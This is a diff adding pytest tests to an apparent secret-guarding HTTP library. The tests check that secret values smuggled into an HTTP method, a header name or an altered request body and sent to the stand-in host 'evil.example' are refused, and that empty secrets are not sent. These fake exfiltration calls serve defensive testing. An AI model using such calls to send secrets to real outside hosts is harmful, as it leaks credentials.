@@ -16,6 +16,7 @@ from msgspec import Struct
 
 from mcpward import http
 from mcpward.core.secret import Secret
+from mcpward.sdk.errors import MissingSecret
 from support.outside import Outside, certificate_for, naming, outside
 from support.outside import http as answer
 from support.tool_http import as_shop
@@ -222,6 +223,31 @@ async def test_a_revealed_value_of_a_free_secret_leaves(contexts, place: str) ->
     async with world(contexts) as here:
         free = Secret(f"sk_live_{next(_number)}name" if place == "the name of a header" else fresh(), "FREE")
         assert (await REVEALED[place](here, free)).status == 200
+
+
+@pytest.mark.parametrize("place", ["method", "name", "bare", "lines"])
+async def test_a_revealed_value_is_found_where_few_would_look(contexts, place: str) -> None:
+    """The method, a header's name in lower case, the value without the blanks around it, its lines with CRLF."""
+    async with world(contexts) as here:
+        odd = Secret(f" {fresh()}\nSECOND-LINE ", "ODD", hosts=["api.example"])
+        word = Secret(f"WORD{next(_number)}XYZ", "WORD", hosts=["api.example"])
+        spelt = {"bare": odd.reveal().strip(), "lines": odd.reveal().replace("\n", "\r\n")}
+        called = {
+            "method": lambda: http.request(word.reveal(), here.at("evil.example")),
+            "name": lambda: http.get(here.at("evil.example"), headers={f"X-{word.reveal()}": "1"}),
+        }.get(place, lambda: http.post(here.at("evil.example"), content=spelt[place].encode()))
+        with pytest.raises(http.HttpRefused):
+            await called()
+        assert (here.connections, here.seen) == (0, b"")
+
+
+async def test_a_secret_that_was_removed_is_not_sent_as_an_empty_credential(contexts) -> None:
+    gone = Secret("", "GONE")
+    async with world(contexts) as here:
+        for given in ({"headers": bearer(gone)}, {"auth": ("me", gone)}, {"params": {"token": gone}}):
+            with pytest.raises(MissingSecret, match="GONE"):
+                await http.get(here.at("api.example"), **given)
+        assert here.connections == 0
 
 
 @pytest.mark.parametrize("spell", [str, quote, lambda value: base64.b64encode(value.encode()).decode()])
